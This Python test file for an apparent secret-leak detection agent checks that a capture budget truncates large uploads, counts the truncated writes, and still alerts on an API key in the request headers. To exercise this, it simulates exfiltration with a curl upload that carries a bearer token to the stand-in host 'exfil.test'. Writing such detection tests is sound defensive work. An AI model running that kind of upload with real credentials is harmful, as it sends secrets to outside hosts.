"""The per-socket capture budget (issue 2, performance): past the first capture_budget_bytes of a
connection, writes are copied only in their head. Keys in request headers stay covered, and every
cut write is counted where users see it (the stats file's kernel counters)."""

import os

from kharness.servers import sha256

ALERT_TIMEOUT = 5.0
BODY_BYTES = 3 << 20  # three times the default budget of 1 MiB


def test_large_upload_is_cut_by_the_budget_counted_and_its_header_key_still_alerts(
        agent, clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    body = scratch / "artifact.bin"
    body.write_bytes(os.urandom(BODY_BYTES))
    clients.run(curl.https(https_server, "exfil.test", "/upload") +
                ["-H", f"@{headers}", "-H", "Expect:", "--data-binary", f"@{body}"])
    [req] = https_server.wait_for_requests(1)
    assert req.body_len == BODY_BYTES and req.body_sha256 == sha256(body.read_bytes())

    alerts = agent.wait_for_alerts(
        lambda a: (a.get("secret") or {}).get("provider") == "openai", timeout=ALERT_TIMEOUT)
    assert alerts, f"key in the headers of a large upload not matched\n{agent.diagnostics()}"
    assert alerts[0]["destination"]["host"] == "exfil.test"

    assert agent.stop() == 0, agent.diagnostics()
    kernel = (agent.stats() or {}).get("kernel", {})
    # 3 MiB in 64 KiB-ish writes: the ~2 MiB past the budget are ~32 cut writes.
    assert kernel.get("truncated_capture_budget", 0) >= 8, f"budget cuts not counted: {kernel}"
    assert kernel.get("ringbuf_drop_data", 0) == 0, kernel
